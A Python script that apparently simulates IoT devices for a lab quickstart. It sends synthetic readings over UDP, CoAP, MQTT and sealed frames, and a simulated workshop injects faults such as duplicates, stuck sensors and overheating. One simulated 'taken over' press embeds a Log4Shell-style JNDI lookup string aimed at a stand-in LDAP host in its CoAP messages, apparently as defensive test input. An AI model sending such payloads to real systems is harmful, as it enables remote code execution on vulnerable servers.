#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Simulated devices for quickstart, speaking through the kernel's sockets inside the lab's
namespace: line protocol and JSON over UDP, CoAP by libcoap's coap-client, MQTT 3.1.1 and 5 by
mosquitto_pub, protected frames by the reference sender; and a workshop whose presses misbehave, each
in its own way. Runs until SIGTERM.

  devices.py [KIND...]     only these: line_protocol, json_over_udp, coap, mqtt, protected_frames, workshop"""

import json
import math
import pathlib
import random
import signal
import socket
import subprocess
import sys
import threading
import time

TOP = pathlib.Path(__file__).resolve().parents[1]
sys.path.insert(0, str(TOP / "tests" / "support"))
import frame_sender  # noqa: E402  the reference sender of protected frames

TARGET = "10.77.0.1"
TARGET6 = "fd77::1"
stop = threading.Event()


def temperature(device, now):
    return round(21 + 4 * math.sin(now / 30 + device) + random.gauss(0, 0.2), 2)


def every(period):
    """Yield at a steady pace until told to stop."""
    due = time.monotonic()
    while not stop.is_set():
        yield time.time()
        due += period
        stop.wait(max(0.0, due - time.monotonic()))


def line_protocol():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for now in every(0.02):
        device = random.randrange(50)
        line = f"climate,device=line-{device} temp={temperature(device, now)},rssi=-{random.randrange(40, 90)}i {int(now * 1e9)}\n"
        s.sendto(line.encode(), (TARGET, 8094))


def json_over_udp():
    v4 = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    v6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    for now in every(0.02):
        device = random.randrange(50)
        payload = json.dumps({"device": f"json-{device}", "temp": temperature(device, now)}).encode()
        if random.random() < 0.01:
            payload = payload[:-3]  # a malformed one goes to the dead letters
        if device % 2:
            v6.sendto(payload, (TARGET6, 8095))
        else:
            v4.sendto(payload, (TARGET, 8095))


def coap():
    for now in every(0.25):
        device = random.randrange(20)
        host = f"[{TARGET6}]" if device % 2 else TARGET
        subprocess.run(
            ["coap-client", "-B", "5", "-m", "post", "-t", "application/json",
             "-e", json.dumps({"temp": temperature(device, now)}),
             f"coap://{host}/t/coap-{device}/env"],
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=20, check=False)


def mqtt():
    """Long-lived publishers: mosquitto_pub -l sends one message per line it is given."""
    publishers = []
    for n in range(10):
        publishers.append(subprocess.Popen(
            ["mosquitto_pub", "-h", TARGET6 if n % 2 else TARGET, "-V", "5" if n % 3 else "311",
             "-q", str(1 + n % 2), "-i", f"mqtt-{n}", "-t", f"t/mqtt-{n}/env", "-l"],
            stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
    for now in every(0.2):
        for n, p in enumerate(publishers):
            if p.poll() is None:
                p.stdin.write(json.dumps({"temp": temperature(n, now)}).encode() + b"\n")
                p.stdin.flush()
    for p in publishers:
        p.stdin.close()
        p.terminate()
        p.wait(5)


def press(number):
    """mosquitto_pub -l for one press of the workshop (config/profiles/workshop.yaml)."""
    return subprocess.Popen(
        ["mosquitto_pub", "-h", TARGET, "-V", "5", "-q", "1", "-i", f"press-{number}",
         "-t", f"shop/press-{number}/machine", "-l"],
        stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def workshop():
    """press-1 sends every fifth message twice, press-2 has a broken cable, the sensor of press-3 is
    stuck, press-4 runs hot once and cools down, and press-5 has been taken over."""
    presses = {n: press(n) for n in (1, 2, 3, 4)}
    start, seq = time.monotonic(), 0
    for now in every(0.5):
        seq += 1
        hot = 95 if 4 <= time.monotonic() - start < 9 else 70
        temps = {1: temperature(1, now), 2: 9999 if seq % 4 == 0 else 61.5, 3: 42.0, 4: hot + random.random()}
        for n, p in presses.items():
            line = json.dumps({"time": int(now * 1000), "seq": seq, "temp": temps[n]}).encode() + b"\n"
            if p.poll() is None:
                p.stdin.write(line * (2 if n == 1 and seq % 5 == 0 else 1))
                p.stdin.flush()
        if seq % 6 == 0:
            subprocess.run(
                ["coap-client", "-B", "5", "-m", "post", "-t", "application/json",
                 "-e", json.dumps({"time": int(now * 1000), "seq": seq, "temp": 20, "note": "${jndi:ldap://198.51.100.7/a}"}),
                 f"coap://{TARGET}/t/press-5/machine"],
                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=20, check=False)
    for p in presses.values():
        p.stdin.close()
        p.terminate()
        p.wait(5)


def frame_keys():
    """The laboratory's key file: (device, algorithm, number, key)."""
    for line in (TOP / "config" / "examples" / "frame.keys").read_text().splitlines():
        if line.strip() and not line.startswith("#"):
            device, algorithm, number, key = line.split()
            yield device, algorithm, int(number), bytes.fromhex(key)


def protected_frames():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    keys = list(frame_keys())
    epoch = int(time.time()) & 0x7fffffff  # grows with every start, as the document asks
    seq = 0
    for now in every(0.05):
        seq += 1
        for device, algorithm, number, key in keys:
            payload = json.dumps({"temp": temperature(seq, now)}).encode()
            s.sendto(frame_sender.seal(algorithm, number, key, device, epoch, seq, 0, payload), (TARGET, 8096))


def main():
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    kinds = {f.__name__: f for f in (line_protocol, json_over_udp, coap, mqtt, protected_frames, workshop)}
    unknown = [name for name in sys.argv[1:] if name not in kinds]
    if unknown:
        sys.exit(f"devices.py: no {', '.join(unknown)}; there are {', '.join(kinds)}")
    threads = [threading.Thread(target=kinds[name], daemon=True) for name in sys.argv[1:] or kinds]
    for t in threads:
        t.start()
    while not stop.wait(1.0):
        pass
    for t in threads:
        t.join(5)


main()
sys.exit(0)
